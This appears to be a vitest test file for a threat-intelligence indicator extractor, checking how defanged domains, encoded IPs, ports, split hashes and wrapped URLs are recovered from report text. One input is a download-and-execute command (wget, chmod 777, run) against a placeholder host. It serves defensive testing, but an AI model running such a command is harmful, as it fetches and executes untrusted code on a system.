/**
 * What is harder than hard-cases.test.ts: dresses that look like prose or code, addresses in other numbers, alternatives, ports in
 * words, digests in groups, addresses that a column or an encoding divided; and as many texts that only look like them. A case is a
 * text and all that is found in it, as `role type value`.
 */
import { catalogue, refang } from '@sigwright/catalogue';
import { describe, expect, it } from 'vitest';
import { readReport } from './intake.ts';

type Case = readonly [why: string, text: string, ...expected: string[]];

const MD5 = '9b71d224bd62f3785d96d46ad3ea3d73';
const SHA1 = '1f40fc92da241694750979ee6cf582f2d5d7d28e';
const SHA256 = '2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae';

function groups(digest: string, size: number, sign: string): string {
  return digest.match(new RegExp(`.{${size}}`, 'g'))!.join(sign);
}

const DRESSES: readonly Case[] = [
  ['a comma for the dot', 'evil-otter,com', 'indicator domain evil-otter.com'],
  ['the same in a sentence', 'C2: evil-otter,com and cold-rain,top', 'indicator domain evil-otter.com', 'indicator domain cold-rain.top'],
  ['a comma that ends a part of a sentence', 'the read-only,com port, the non-existent,net result and the well-known,top vendors; ten,org charts'],
  ['a comma in a query', 'https://small-lab.net/?q=a,com', 'indicator url https://small-lab.net/?q=a,com'],
  ['the first letter of the word', 'evil[d]com and evil[d]cold-rain[d]com', 'indicator domain evil.com', 'indicator domain evil.cold-rain.com'],
  ['editors write letters in brackets, too', 'extracte[d] data, use[d]in, add[a]b, list[d]'],
  ['the word between underscores', 'cold-rain_dot_com', 'indicator domain cold-rain.com'],
  ['the word between hyphens', 'panel-dot-cold-rain-dot-com', 'indicator domain panel.cold-rain.com'],
  ['the word in names of other things', 'a-dot-matrix printer, the dot com bubble, x_dot_product, connect the dot net'],
  ['a blank before the dot in an address', 'hxxp://cold-rain .com/path/a.php', 'indicator url http://cold-rain.com/path/a.php'],
  [
    'a dot in codes',
    'cold-rain%2Ecom, cold-rain\\u002ecom and cold-rain\\x2ecom',
    'indicator domain cold-rain.com',
    'indicator domain cold-rain.com',
    'indicator domain cold-rain.com',
  ],
  ['a part that programs fill in', '%s.cold-rain[.]top and <id>.cold-rain[.]top', 'indicator domain cold-rain.top', 'indicator domain cold-rain.top'],
  ['the ending alone in brackets', 'cold-rain.[top]', 'indicator domain cold-rain.top'],
  ['letters as wide as East Asian ones', 'Ｃ２：ｃｏｌｄｒａｉｎ．ｔｏｐ', 'indicator domain coldrain.top'],
  ['mail with underscores', 'joe_at_cold-rain.com', 'indicator email joe@cold-rain.com'],
  ['mail with one letter', 'joe(a)cold-rain.com', 'indicator email joe@cold-rain.com'],
  ['mail, encoded', 'mailto:joe%40cold-rain.top', 'indicator email joe@cold-rain.top'],
  ['no mail', 'look_at_me.py and meet_at_noon'],
  ['an address encoded as a whole', 'http%3A%2F%2Fcold-rain.top%2Fa%2Fb.php%3Fc%3Dd', 'indicator url http://cold-rain.top/a/b.php?c=d'],
  [
    'one in the query of another stays as it is',
    'hxxps://tin-otter[.]net/r?u=http%3A%2F%2Fcold-rain.top%2Fa',
    'indicator url https://tin-otter.net/r?u=http%3A%2F%2Fcold-rain.top%2Fa',
  ],
  ['credentials in brackets', 'ftp[:]//user[:]pass[@]cold-rain[.]top', 'indicator url ftp://user:pass@cold-rain.top'],
  ['an apostrophe in a path', "hxxp://cold-rain[.]top/o'brien/a", "indicator url http://cold-rain.top/o'brien/a"],
  ['a possessive behind a path', "hxxp://cold-rain[.]top/a's content", 'indicator url http://cold-rain.top/a'],
  ['single quotes around', "'hxxp://cold-rain[.]top/a'b", 'indicator url http://cold-rain.top/a'],
];

const NUMBERS: readonly Case[] = [
  ['a hexadecimal host', 'hxxp://0x2d010203/a.exe', 'indicator url http://45.1.2.3/a.exe'],
  ['a decimal host', 'http://755040771/payload', 'indicator url http://45.1.2.3/payload'],
  ['hexadecimal parts', 'http://0x2d.0x01.0x02.0x03/a', 'indicator url http://45.1.2.3/a'],
  ['octal parts', 'http://0055.0001.0002.0003:8080/a', 'indicator url http://45.1.2.3:8080/a'],
  ['numbers that are no hosts', 'http://1/ and http://12345/ and http://0x10/'],
  ['alternatives in brackets', '45.1.2.[9|10]', 'indicator ipv4 45.1.2.9', 'indicator ipv4 45.1.2.10'],
  ['alternatives in other brackets', '45[.]1[.]2[.](9|10|11)', 'indicator ipv4 45.1.2.9', 'indicator ipv4 45.1.2.10', 'indicator ipv4 45.1.2.11'],
  ['alternatives in braces', '45.1.2.{9,10}', 'indicator ipv4 45.1.2.9', 'indicator ipv4 45.1.2.10'],
  ['alternatives with slashes', '45.1.2.9/10/11', 'indicator ipv4 45.1.2.9', 'indicator ipv4 45.1.2.10', 'indicator ipv4 45.1.2.11'],
  ['from and to in brackets', '45.1.2.[9-12]', 'indicator ipv4 45.1.2.9', 'indicator ipv4 45.1.2.12'],
  ['from and to of the last part', '45.1.2.9-12', 'indicator ipv4 45.1.2.9', 'indicator ipv4 45.1.2.12'],
  ['arrays and versions', 'price 10.5.2 [1|2], array[1|2], 1.2.3.[4], 1.2.3.4-2ubuntu1, libc6 2.31.0.1-5, 1.2.3.4-beta'],
  ['blanks around each dot', '45 . 137 . 21 . 9', 'indicator ipv4 45.137.21.9'],
  ['a port in words', 'It connects to 45.137.21[.]9 on port 8443.', 'indicator ipv4 45.137.21.9 port 8443'],
  ['a port in brackets behind it', '45.137.21[.]9 (port 8443)', 'indicator ipv4 45.137.21.9 port 8443'],
  [
    'a port and its protocol',
    '45.137.21[.]9 port 53/udp, 45.137.21[.]10 over TCP port 4444',
    'indicator ipv4 45.137.21.9 port 53',
    'indicator ipv4 45.137.21.10 port 4444',
  ],
  ['a port of a host', 'cold-rain[.]top on port 8080', 'indicator domain cold-rain.top port 8080'],
  ['a port of an IPv6 address', '2a0d:5600:24:a1::7, port 8443', 'indicator ipv6 2a0d:5600:24:a1::7 port 8443'],
  [
    'several ports are none',
    '45.137.21[.]9 on port 80 and 443; ports 80 and 443 of 45.137.21[.]10',
    'indicator ipv4 45.137.21.9',
    'indicator ipv4 45.137.21.10',
  ],
  ['fields of an object', '"ip":"45.137.21.9","port":8443', 'indicator ipv4 45.137.21.9 port 8443'],
  [
    'ports in other languages',
    'IP：45.137.21.9，端口：8443; 45.137.21.10, порт 53',
    'indicator ipv4 45.137.21.9 port 8443',
    'indicator ipv4 45.137.21.10 port 53',
  ],
  [
    'protocol and port with slashes',
    'tcp/45.137.21.9:443 and 45.137.21.10/tcp/8443',
    'indicator ipv4 45.137.21.9 port 443',
    'indicator ipv4 45.137.21.10 port 8443',
  ],
  ['an escaped line break between', '45.137.21.9\\n45.137.21.10', 'indicator ipv4 45.137.21.9', 'indicator ipv4 45.137.21.10'],
  ['IPv6 with colons in braces', '2a0d{:}5600{:}24{:}a1::7', 'indicator ipv6 2a0d:5600:24:a1::7'],
  ['numbers of objects and sections', 'SNMP OID 1.3.6.1.2.1.1.1.0 and .1.3.6.1.4.1.9; Section 1.2.3.4, Table 4.5, $1.234.567,89, 10.1.2024'],
  [
    'versions of products',
    '.NET Framework 4.0.30319.1, Java 1.8.0_201, Office 16.0.14326.20454, Adobe Acrobat 23.1.2.3, Windows 10.0.17763.1 (RS5), kernel 5.15.0.91, Tomcat 9.0.85.1',
  ],
];

const DIGESTS: readonly Case[] = [
  ['bytes with colons', `SHA1 fingerprint: ${groups(SHA1, 2, ':').toUpperCase()}`, `indicator sha1 ${SHA1}`],
  ['bytes with colons, unnamed', groups(SHA256, 2, ':'), `indicator sha256 ${SHA256}`],
  ['bytes with hyphens', `MD5: ${groups(MD5, 2, '-').toUpperCase()}`, `indicator md5 ${MD5}`],
  ['bytes with blanks', `SHA1: ${groups(SHA1, 2, ' ')}`, `indicator sha1 ${SHA1}`],
  ['groups of eight', `MD5: ${groups(MD5, 8, ' ')}`, `indicator md5 ${MD5}`],
  ['groups of sixteen', `SHA256: ${groups(SHA256, 16, ' ')}`, `indicator sha256 ${SHA256}`],
  ['two halves in a cell', `| sha256 | ${groups(SHA256, 32, ' ')} |`, `indicator sha256 ${SHA256}`],
  ['a hyphen where the line ends', `${SHA256.slice(0, 40)}-\n${SHA256.slice(40)}`, `indicator sha256 ${SHA256}`],
  ['invisible characters within', `${MD5.slice(0, 8)}\u200b${MD5.slice(8, 20)}\u00ad${MD5.slice(20)}`, `indicator md5 ${MD5}`],
  ['a prefix', `sha256:${SHA256} SHA256-${SHA256.toUpperCase()}`, `indicator sha256 ${SHA256}`, `indicator sha256 ${SHA256}`],
  ['a dump of bytes', '00000000  4d 5a 90 00 03 00 00 00  04 00 00 00 ff ff 00 00\n4d 5a 90 00 03 00 00 00 04 00 00 00 ff ff 00 00'],
  ['keys', `AES key: ${groups(MD5, 2, ':')}, the XOR key ${MD5}`, `reference md5 ${MD5}`],
  ['numbers of certificates', `X509v3 Subject Key Identifier:\n    ${groups(SHA1, 2, ':').toUpperCase()}\nSerial Number: ${groups(SHA1, 2, ':')}`],
  ['hardware addresses and identifiers', '00:1b:44:11:3a:b7, 9b71d224-bd62-f378-5d96-d46ad3ea3d73, 0018:aabb:ccdd'],
  ['CVE without its first hyphen, and over a line break', 'CVE2024-21417 and CVE-2024-\n21419', 'reference cve CVE-2024-21417', 'reference cve CVE-2024-21419'],
  ['no CVE', 'CVE-2024-XXXX, CVE-2024-123 and CVE2024'],
];

const DIVIDED: readonly Case[] = [
  [
    'a path on a short line',
    'It loads https://cold-rain.top/a/b/c/d/\nlong-path/gate.php?id=1 then',
    'indicator url https://cold-rain.top/a/b/c/d/long-path/gate.php?id=1',
  ],
  ['a path on a shorter line', 'URL: hxxp://cold-rain[.]top/content/\nplugins/x.php', 'indicator url http://cold-rain.top/content/plugins/x.php'],
  ['a query', 'at hxxps://cold-rain[.]top/get?file=\nsetup.exe today', 'indicator url https://cold-rain.top/get?file=setup.exe'],
  ['a query behind its &', 'at hxxps://cold-rain[.]top/get?a=b&\nc=d today', 'indicator url https://cold-rain.top/get?a=b&c=d'],
  ['in brackets line breaks are none', 'at <hxxp://cold-rain[.]top/a-very-lo\n  ng/path> today', 'indicator url http://cold-rain.top/a-very-long/path'],
  ['a path and a sentence', 'See hxxps://cold-rain[.]top/path/\nand then all', 'indicator url https://cold-rain.top/path/'],
  [
    'a path and another address',
    'hxxps://cold-rain[.]top/l/\nhxxps://tin-otter[.]net/l/',
    'indicator url https://cold-rain.top/l/',
    'indicator url https://tin-otter.net/l/',
  ],
  ['a path and an entry of a list', 'hxxp://cold-rain[.]top/dir/\n- a/b.exe', 'indicator url http://cold-rain.top/dir/', 'indicator file b.exe'],
  ['a file on its own line', 'hxxp://cold-rain[.]top/dir/\nb.exe', 'indicator url http://cold-rain.top/dir/', 'indicator file b.exe'],
  ['a sign of a sentence', 'Is it hxxps://cold-rain[.]top/a?\nThen leave.', 'indicator url https://cold-rain.top/a'],
  ['an empty value and a sentence', 'at hxxps://cold-rain[.]top/get?a=\nThe next one', 'indicator url https://cold-rain.top/get?a='],
  ['a label on the line above', 'URL=\nhxxps://cold-rain[.]top/a', 'indicator url https://cold-rain.top/a'],
];

const OTHERS: readonly Case[] = [
  ['packages and frameworks', 'react-dom/server, @types/node, vue.js 3.4.1, Next.js, D3.js, ASP.NET Core 8.0, Socket.IO, System.Net.Sockets'],
  ['imports', 'os.path, urllib.request, requests.post, java.util.Base64, System.IO.Compression, com.apple.quarantine'],
  ['members', 'this.is.it, self.data.id, e.name, Build.VERSION.SDK_INT, Math.pi, foo.bar.baz(), window.top.location'],
  ['files of projects', 'settings.json, package.json, app.config, web.config, index.d.ts, style.min.css, setup.exe.config'],
  ['abbreviations', 'St.Petersburg, Ph.D., U.S.A., e.g.this, etc.and, a.k.a.the, No.1'],
  ['libraries', 'libssl.so.1.1, python3.11, user@2x.png and kernel32.dll!CreateFileA', 'indicator file kernel32.dll'],
  ['what a command loads', 'wget http://cold-rain.top/x; chmod 777 /tmp/x; /tmp/x', 'indicator url http://cold-rain.top/x'],
  [
    'settings of a beacon',
    '{"C2Server": "cold-rain.top,/j-3.3.1.min.js", "HttpPostUri": "/j-3.3.2.min.js"}',
    'indicator domain cold-rain.top',
    'indicator uri-path /j-3.3.1.min.js',
    'indicator uri-path /j-3.3.2.min.js',
  ],
  ['cells of a page', '<td>cold-rain[.]top</td><td>45.137.21[.]9</td>', 'indicator domain cold-rain.top', 'indicator ipv4 45.137.21.9'],
  ['a question to a server of names', 'nslookup cold-rain.top 8.8.8.8', 'indicator domain cold-rain.top', 'benign ipv4 8.8.8.8'],
  ['a registrar in prose', 'cold-rain[.]top, registered at Namecheap.com on 2024-03-01', 'indicator domain cold-rain.top', 'reference domain namecheap.com'],
];

function found(text: string): string[] {
  return readReport(text, { definitions: catalogue.indicators, refang, format: 'text' }).indicators.map(
    ({ role, type, value, port }) => `${role} ${type} ${value}${port === undefined ? '' : ` port ${port}`}`,
  );
}

for (const [what, cases] of Object.entries({ DRESSES, NUMBERS, DIGESTS, DIVIDED, OTHERS }))
  describe(`harder cases: ${what.toLowerCase()}`, () => {
    for (const [why, text, ...expected] of cases) it(why, () => expect(found(text)).toEqual(expected));
    it('what stands at the offsets is what was written, and offsets are in order', () => {
      for (const [, text] of cases) {
        let last = 0;
        for (const one of readReport(text, { definitions: catalogue.indicators, refang, format: 'text' }).indicators) {
          expect(one.start).toBeGreaterThanOrEqual(last);
          expect(one.end).toBeGreaterThan(one.start);
          expect(text.slice(one.start, one.end)).toBe(one.written);
          last = one.start;
        }
      }
    });
  });
